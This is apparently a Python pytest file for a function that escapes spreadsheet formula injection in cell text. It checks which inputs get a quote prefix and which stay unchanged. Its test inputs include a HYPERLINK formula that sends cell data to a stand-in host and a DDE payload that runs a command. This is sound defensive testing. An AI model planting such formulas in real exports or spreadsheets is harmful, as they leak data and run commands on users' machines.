"""Cells that a spreadsheet would compute are text again, all others as they were."""

from __future__ import annotations

import pytest

from amends.core.cells import cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1+1", "\n=1", "\u00a0=1",
        '=HYPERLINK("https://evil.example?"&A1)', "=cmd|' /C calc'!A0", "＝1+1", "＠x", "＋1", "－1",
    ],
)  # fmt: skip
def test_formulas_become_text(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "Hartwell", "a=b", "2026-03-16", "Re: -", "'=1", "»+«", " plain", "ada@x.example"]
)
def test_other_text_stays(text: str) -> None:
    assert cell(text) == text
